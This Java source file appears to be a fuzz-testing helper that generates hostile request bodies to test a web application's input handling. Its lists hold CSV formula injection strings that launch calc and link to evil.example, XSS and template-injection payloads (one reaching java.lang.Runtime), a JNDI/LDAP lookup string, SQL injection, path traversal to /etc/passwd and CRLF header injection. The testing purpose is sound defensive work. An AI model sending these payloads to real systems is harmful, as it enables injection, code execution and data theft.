package cn.chuangwei.fuzz;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.SerializationFeature;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.function.Consumer;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * What an attacker or a careless caller sends: hostile text (script, formulas, control characters, emoji, right-to-left
 * marks, strings just over every length limit), hostile JSON values (wrong types, numbers out of range, deep nesting,
 * impossible dates) and whole request bodies made by mutating a valid one or by breaking its syntax.
 */
final class Hostile {

    static final ObjectMapper JSON = new ObjectMapper().findAndRegisterModules()
            .disable(SerializationFeature.WRITE_DATES_AS_TIMESTAMPS);

    /** Text that a spreadsheet would take for a formula (OWASP CSV injection). */
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example\",\"点我\")", "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "＝1+1");

    /** Text that a page would run if it were not escaped. */
    static final List<String> SCRIPTS = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "</script><script>alert(1)</script>", "<svg/onload=alert(1)>", "'><a href=\"javascript:alert(1)\">x</a>",
            "<!--", "]]>", "${7*7}", "[[${7*7}]]", "__${T(java.lang.Runtime).getRuntime()}__::.x");

    private static final List<String> ODD = List.of("", " ", "\n", "\t", "\u0000", "\u0000abc", "a\u0000b", "\u202Eevil\u202C",
            "مرحبا بالعالم", "שלום", "😀", "👨‍👩‍👧‍👦🏳️‍🌈", "\uD83D", "\uDE00x", "\uFEFF", "\u200B\u200D", "Ａ１２", "ｅｖｉｌ",
            "null", "true", "NaN", "-0", "1e999", "' OR '1'='1", "'; drop table campaign; --", "%s%n%x", "${jndi:ldap://x/a}",
            "../../../../etc/passwd", "C:\\Windows\\win.ini", "%00", "%2e%2e%2f", "\\u0000", "a\r\nSet-Cookie: x=1",
            "{resultSummary}", "{link}", "{{link}}", "MOBILIZATION", "宣传发动", "2027-02-30", "G1", "ACCEPT");

    /** Lengths on either side of the limits the application and its database have. */
    private static final List<Integer> LIMITS = List.of(20, 21, 40, 41, 50, 51, 60, 61, 64, 65, 100, 101, 200, 201, 250, 251, 255, 256,
            300, 301, 320, 321, 400, 401, 500, 501, 1000, 1001, 2000, 2001, 4000, 4001, 8000, 8001, 20000, 20001, 100_000);

    private Hostile() {
    }

    /** One string of any of the kinds above, or random text from the whole of Unicode. */
    static Arbitrary<String> text() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(2, Arbitraries.strings().withCharRange('\u4e00', '\u9fa5').ofMinLength(1).ofMaxLength(12)),
                Tuple.of(2, Arbitraries.of(FORMULAS)),
                Tuple.of(2, Arbitraries.of(SCRIPTS)),
                Tuple.of(3, Arbitraries.of(ODD)),
                Tuple.of(2, longText()));
    }

    /** A string just under or over one of the length limits, in Chinese or ASCII, sometimes padded with blanks. */
    static Arbitrary<String> longText() {
        return Combinators.combine(Arbitraries.of(LIMITS), Arbitraries.of("字", "a", "😀", " "),
                Arbitraries.of("", " ", "\u3000")).as((n, c, pad) -> pad + c.repeat(n) + pad);
    }

    /** A JSON value as raw text: hostile strings, numbers out of every range, wrong types, deep nesting. */
    static Arbitrary<String> value() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, text().map(Hostile::quote)),
                Tuple.of(3, numbers()),
                Tuple.of(2, Arbitraries.of("true", "false", "null", "[]", "{}", "[null]", "[1,2,3]", "{\"a\":1}", "[\"\"]",
                        "{\"\":null}", "[[]]")),
                Tuple.of(2, Arbitraries.of("\"2027-02-30\"", "\"2027-13-01\"", "\"+999999999-12-31\"",
                        "\"-999999999-01-01\"", "\"0000-01-01\"", "\"2027-9-1\"", "\"2027/09/01\"", "\"9月1日\"",
                        "\"2027-09-01T10:00:00Z\"", "\"99999-01-01\"", "\"1900-01-01\"", "\"2100-12-31\"")),
                Tuple.of(1, nested()),
                Tuple.of(1, Arbitraries.integers().between(2, 20_000).map(n -> "[" + "null,".repeat(n - 1) + "null]")));
    }

    /** Numbers as JSON: out of every range, too precise, too long, overflowing a double. */
    static final List<String> NUMBERS = List.of("0", "-1", "1", "2147483648", "-2147483649", "9223372036854775807",
            "9223372036854775808", "-9223372036854775809", "1e400", "-1e400", "1e-400", "1.5", "-0", "-0.0", "0.0000001",
            "123456789012345678901234567890", "99999999999.9999", "999999999.9999", "1E+2", "100.0000001", "-90.0000001",
            "90.00000000001", "89.9999999999999", "1.7976931348623157E308", "4.9E-324", "1" + "0".repeat(1200));

    static Arbitrary<String> numbers() {
        return Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.of(NUMBERS)),
                Tuple.of(1, Arbitraries.doubles().map(String::valueOf).filter(d -> !d.contains("N") && !d.contains("I"))),
                Tuple.of(1, Arbitraries.bigDecimals().ofScale(8).map(BigDecimal::toPlainString)));
    }

    /** Arrays or objects nested up to well past Jackson's depth limit. */
    static Arbitrary<String> nested() {
        return Combinators.combine(Arbitraries.integers().between(1, 3000), Arbitraries.of(true, false))
                .as((depth, arrays) -> arrays ? "[".repeat(depth) + "]".repeat(depth)
                        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
    }

    /** Request bodies that are not JSON, or not whole. */
    static Arbitrary<String> garbage() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(200)),
                Tuple.of(2, Arbitraries.of("", " ", "{", "}", "[", "{\"a\"", "{\"a\":}", "{,}", "[1,]", "{'a':1}", "nul",
                        "\uFEFF{}", "{\"a\":1}{\"b\":2}", "{\"a\":\"\\uZZZZ\"}", "{\"a\":\"\u0000\"}", "\"unterminated",
                        "{\"a\":1,\"a\":2}", "<xml/>", "a=1&b=2")),
                Tuple.of(1, nested().map(s -> s.substring(0, s.length() / 2))),
                Tuple.of(2, value()));
    }

    /** One change to a valid body: a value replaced, a field removed, an unknown field added, the whole replaced. */
    record Mutation(int at, Kind kind, String value, String name) {

        enum Kind { REPLACE, REMOVE, ADD_FIELD, WRAP_IN_ARRAY, DUPLICATE_ELEMENT }
    }

    static Arbitrary<Mutation> mutation() {
        return Combinators.combine(Arbitraries.integers().between(0, 100_000), Arbitraries.of(Mutation.Kind.class)
                        .edgeCases(e -> e.includeOnly(Mutation.Kind.REPLACE)), value(),
                Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.of("extra", "id", "status", "__proto__", "constructor",
                        "campaignId", "processInstanceId", "draft", "createdBy")), Tuple.of(1, text())))
                .as(Mutation::new);
    }

    /**
     * A body for an endpoint whose valid body is {@code valid}: mostly the valid body with one to three mutations, else
     * it cut short, garbage or a lone value of the wrong type.
     */
    static Arbitrary<String> bodyFrom(JsonNode valid) {
        Arbitrary<String> mutated = mutation().list().ofMinSize(1).ofMaxSize(3).map(ms -> {
            JsonNode copy = valid.deepCopy();
            for (Mutation m : ms) {
                copy = apply(copy, m);
            }
            return write(copy);
        });
        String whole = write(valid);
        Arbitrary<String> truncated = Arbitraries.integers().between(0, Math.max(0, whole.length() - 1))
                .map(n -> whole.substring(0, n));
        return Arbitraries.frequencyOf(Tuple.of(12, mutated), Tuple.of(2, truncated), Tuple.of(2, garbage()));
    }

    /** The places of a tree: each value with the container holding it (null for the root). */
    private record Place(JsonNode container, String field, int index) {
    }

    static JsonNode apply(JsonNode root, Mutation m) {
        List<Place> places = new ArrayList<>();
        places.add(new Place(null, null, -1));
        collect(root, places);
        Place p = places.get(m.at() % places.size());
        JsonNode raw = JsonNodeFactory.instance.rawValueNode(new RawValue(m.value()));
        if (p.container() == null) {
            return switch (m.kind()) {
                case ADD_FIELD -> {
                    if (root instanceof ObjectNode o) {
                        o.set(m.name(), raw);
                    }
                    yield root;
                }
                case WRAP_IN_ARRAY -> JsonNodeFactory.instance.arrayNode().add(root);
                default -> raw;
            };
        }
        JsonNode current = p.container() instanceof ObjectNode o ? o.get(p.field()) : p.container().get(p.index());
        JsonNode replacement = switch (m.kind()) {
            case REPLACE -> raw;
            case WRAP_IN_ARRAY -> JsonNodeFactory.instance.arrayNode().add(current);
            default -> null;
        };
        if (p.container() instanceof ObjectNode o) {
            switch (m.kind()) {
                case REMOVE -> o.remove(p.field());
                case ADD_FIELD -> o.set(m.name(), raw);
                case DUPLICATE_ELEMENT -> o.set(p.field() + "_", current.deepCopy());
                default -> o.set(p.field(), replacement);
            }
        } else {
            ArrayNode a = (ArrayNode) p.container();
            switch (m.kind()) {
                case REMOVE -> a.remove(p.index());
                case ADD_FIELD -> a.add(raw);
                case DUPLICATE_ELEMENT -> a.insert(p.index(), current.deepCopy());
                default -> a.set(p.index(), replacement);
            }
        }
        return root;
    }

    private static void collect(JsonNode node, List<Place> places) {
        if (node instanceof ObjectNode o) {
            for (Iterator<String> it = o.fieldNames(); it.hasNext(); ) {
                String f = it.next();
                places.add(new Place(o, f, -1));
                collect(o.get(f), places);
            }
        } else if (node instanceof ArrayNode a) {
            for (int i = 0; i < a.size(); i++) {
                places.add(new Place(a, null, i));
                collect(a.get(i), places);
            }
        }
    }

    static String quote(String s) {
        try {
            return JSON.writeValueAsString(s);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static String write(Object o) {
        try {
            return JSON.writeValueAsString(o);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static JsonNode tree(Object o) {
        return JSON.valueToTree(o);
    }

    static ObjectNode object(Consumer<ObjectNode> fill) {
        ObjectNode o = JSON.createObjectNode();
        fill.accept(o);
        return o;
    }
}
